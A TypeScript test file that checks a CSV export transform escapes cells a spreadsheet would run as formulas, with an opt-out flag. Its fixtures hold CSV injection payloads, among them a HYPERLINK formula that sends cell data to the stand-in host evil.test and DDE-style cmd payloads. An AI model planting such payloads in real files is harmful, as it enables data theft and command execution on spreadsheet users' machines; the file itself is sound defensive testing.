// Issue 29 (5): to_csv escapes cells a spreadsheet would run as formulas (OWASP "CSV Injection":
// a leading =, +, -, @, tab or carriage return gets a leading '), headers included; plain numbers
// stay numbers; `escape_formulas: false` is the opt-out. Request values, both paths.
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { runBoth } from '../support/run-both.ts';
import { compileConfig } from '../../compiler/index.ts';

const config = (args: string, input = 'a|body::rows|') => `
interfaces:
  export:
    actions:
      - name: Rows
        input: ${input}
        post_transforms:
          - to_csv: ${args}
        output: http
`;

const hostile = [
  { name: '=HYPERLINK("http://evil.test?x="&A1,"click")', amount: -5, note: '+cmd|\' /C calc\'!A0' },
  { name: '@SUM(1+1)*cmd|\' /C calc\'!A0', amount: 12.5, note: '-2+3' },
  { name: '\tTAB', amount: '-5', note: '\r=1+1' },
  { name: 'plain', amount: '+1.5e3', note: 'a=b' },
];

const cells = (csv: unknown) => parse(String(csv), { relax_column_count: true }) as string[][];

describe('to_csv and formula injection', () => {
  it('escapes formula cells by default; numbers, and text spelling a plain number, stay as they are', async () => {
    const r = await runBoth(config('""'), 'export', { body: { rows: hostile } });
    expect(r.response.status).toBe(200);
    expect(cells(r.response.body)).toEqual([
      ['name', 'amount', 'note'],
      ['\'=HYPERLINK("http://evil.test?x="&A1,"click")', '-5', '\'+cmd|\' /C calc\'!A0'],
      ['\'@SUM(1+1)*cmd|\' /C calc\'!A0', '12.5', '\'-2+3'],
      ['\'\tTAB', '-5', '\'\r=1+1'],
      ['plain', '+1.5e3', 'a=b'],
    ]);
    for (const row of cells(r.response.body)) for (const c of row) if (!/^[+-]?[\d.]+(e\d+)?$/.test(c)) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('escapes a header a request chose', async () => {
    const r = await runBoth(config('""'), 'export', { body: { rows: [{ '=1+1': 'x', '-2': 'y' }] } });
    expect(cells(r.response.body)[0]).toEqual(['\'=1+1', '-2']);
  });

  it('the {key, json_path} form escapes too', async () => {
    const r = await runBoth(config('{ key: csv, json_path: rows }', '{ rows: a|body::rows| }'), 'export', { body: { rows: [{ a: '=1' }] } });
    expect(cells((r.response.body as { csv: string }).csv)).toEqual([['a'], ['\'=1']]);
  });

  it('escape_formulas: false writes cells as they are ({path} and {key, json_path} forms)', async () => {
    const inPlace = await runBoth(config('{ path: "", escape_formulas: false }'), 'export', { body: { rows: hostile } });
    expect(cells(inPlace.response.body)[1]![0]).toBe('=HYPERLINK("http://evil.test?x="&A1,"click")');
    const keyed = await runBoth(config('{ key: csv, json_path: rows, escape_formulas: false }', '{ rows: a|body::rows| }'), 'export', { body: { rows: [{ a: '=1' }] } });
    expect(cells((keyed.response.body as { csv: string }).csv)).toEqual([['a'], ['=1']]);
  });

  it('check refuses a non-boolean escape_formulas', () => {
    const c = compileConfig('inline.yaml', config('{ path: "", escape_formulas: "no" }'));
    expect(c.ok).toBe(false);
  });
});
